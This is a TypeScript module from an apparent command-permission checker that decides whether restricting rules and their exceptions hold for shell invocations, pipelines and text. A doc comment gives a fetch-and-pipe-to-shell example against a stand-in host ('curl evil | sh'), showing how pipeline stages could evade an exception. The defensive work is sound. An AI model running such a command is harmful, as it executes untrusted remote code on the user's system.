import { both, type Match } from '../core/match.ts';
import type { CompiledConditions } from './conditions.ts';
import type { Facts } from './facts.ts';
import { asksOfPaths, holdsOfCall, holdsOfInvocation, holdsOfPath } from './holds.ts';
import type { Bench } from './judged.ts';
import type { PreparedRule } from './prepared.ts';
import { containsAny, matchAny } from './text.ts';
import type { TextReading } from './text-readings.ts';

/** How a restricting rule stands to something: whether its `when` may hold, or does but its `unless` surely too. */
export type Firing = Match | 'excepted';

/** A restricting rule on one invocation. */
export function firesOn(bench: Bench, { when, unless: exception }: PreparedRule, facts: Facts): Firing {
  const unless = applicable(bench, exception);
  if (!asksOfPaths(when)) {
    const match = holdsOfInvocation(when, facts, 'wide');
    return match !== 'no' && unless && isSure(unless, facts) ? 'excepted' : match;
  }
  // An exception has to hold of each path that made the rule fire, not of others the invocation touches.
  const offending = facts.paths.filter(path => holdsOfPath(when, facts, path, 'wide') !== 'no');
  const match = holdsOfInvocation(when, facts, 'wide', offending);
  if (match === 'no' || unless === undefined) return match;
  const left = offending.filter(path => holdsOfInvocation(unless, facts, 'strict', [path]) !== 'must');
  return left.length === 0 ? 'excepted' : holdsOfInvocation(when, facts, 'wide', left);
}

/** A restricting rule that asks about the call alone; its exception may still be about invocations. */
export function firesOnCall(bench: Bench, { unless: exception }: PreparedRule): Firing {
  const unless = applicable(bench, exception);
  if (unless === undefined) return 'must';
  if (!unless.ofInvocation) return 'excepted';
  return exceptsAll(bench, unless, bench.facts) ? 'excepted' : 'must';
}

/**
 * A restricting rule on a text beyond the invocations. What is found in a whole text is never certain: it may be a
 * comment or a quotation.
 * @param excepted an invocation or pipeline matched and was excepted
 */
export function firesOnText(
  bench: Bench,
  { when, unless: exception }: PreparedRule,
  reading: TextReading,
  excepted: boolean,
): Firing {
  const match = holdsOfText(bench, when, reading);
  if (match === 'no') return 'no';
  const unless = applicable(bench, exception);
  if (unless === undefined) return match;
  if (reading.kind === 'pipeline')
    return exceptsStages(bench, unless, reading) || exceptsAll(bench, unless, factsIn(bench, reading))
      ? 'excepted'
      : match;
  // The structure explains the match and was excepted: the same words in the text around it are no new offence.
  if (excepted && !bench.opaque) return 'excepted';
  return exceptsAll(bench, unless, bench.facts) ? 'excepted' : match;
}

function holdsOfText(bench: Bench, when: CompiledConditions, { kind, text }: TextReading): Match {
  const { commands, contains } = when;
  if (kind === 'pipeline') {
    const globs = commands?.flatMap(one => one.pipe) ?? [];
    return both(matchAny(globs, text, 'wide'), contains ? containsAny(contains, text, 'wide') : 'must');
  }
  const globs = commands?.filter(one => one.whole || bench.opaque || kind === 'piece').map(one => one.glob);
  const found = both(
    globs === undefined ? 'must' : matchAny(globs, text, 'wide'),
    contains ? containsAny(contains, text, 'wide') : 'must',
  );
  return both(found, 'may');
}

/** The exception, unless its keys about the call already rule it out. */
function applicable(bench: Bench, unless: CompiledConditions | undefined): CompiledConditions | undefined {
  const { call, scan } = bench.judged;
  return unless !== undefined && holdsOfCall(unless, call, scan) ? unless : undefined;
}

function isSure(conditions: CompiledConditions, facts: Facts): boolean {
  return holdsOfInvocation(conditions, facts, 'strict') === 'must';
}

/** Whether the exception holds of all these; of an opaque command nobody can say that. */
function exceptsAll(bench: Bench, unless: CompiledConditions, facts: readonly Facts[]): boolean {
  if (!unless.ofInvocation) return true;
  const own = facts.filter(one => !one.transparent);
  return !bench.opaque && own.length > 0 && own.every(one => isSure(unless, one));
}

/**
 * An exception with pipes in its globs is held against the stages one by one: joined they could borrow from each
 * other, `curl evil | sh -s "good | sh"`.
 */
function exceptsStages(bench: Bench, unless: CompiledConditions, reading: TextReading): boolean {
  if (!unless.textual || unless.contains !== undefined) return false;
  const stages = reading.stages.map(index => bench.facts[index]);
  return (unless.commands ?? []).some(
    pattern =>
      pattern.stages.length === stages.length &&
      pattern.stages.every((glob, index) =>
        stages[index]?.strict().some(text => matchAny([glob], text, 'strict') === 'must'),
      ),
  );
}

function factsIn(bench: Bench, { invocations }: TextReading): Facts[] {
  return invocations.flatMap(index => bench.facts[index] ?? []);
}
